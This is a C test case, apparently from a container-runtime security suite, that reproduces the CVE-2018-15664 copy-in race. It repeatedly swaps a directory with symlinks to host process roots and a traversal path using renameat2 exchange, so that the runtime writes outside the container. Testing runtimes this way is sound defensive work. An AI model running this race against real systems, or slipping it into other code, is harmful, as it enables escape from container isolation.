/*
 * does: exchanges a directory and links to roots of processes while the keeper writes below it (CVE-2018-15664)
 * while: copy-in /race/dir/canary
 * time: 120
 */
int main(void) {
    const char *roots[] = {"/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/fd/0", "/../../../../tmp", "/proc/thread-self/root"};
    char path[64], folder[PATH_MAX];
    snprintf(folder, sizeof folder, "%s", told("CANARY"));
    *strrchr(folder, '/') = 0;
    mkdir("/race", 0755);
    mkdir("/race/dir", 0755);
    for (int i = 0; i < 6; i++) {
        snprintf(path, sizeof path, "/race/link%d", i);
        symlink(i == 4 ? folder : roots[i], path);
    }
    double end = seconds() + 3;
    for (int i = 0; seconds() < end; i = (i + 1) % 6) {
        snprintf(path, sizeof path, "/race/link%d", i);
        syscall(SYS_renameat2, AT_FDCWD, "/race/dir", AT_FDCWD, path, 2);
        syscall(SYS_renameat2, AT_FDCWD, "/race/dir", AT_FDCWD, path, 2);
    }
    return 0;
}
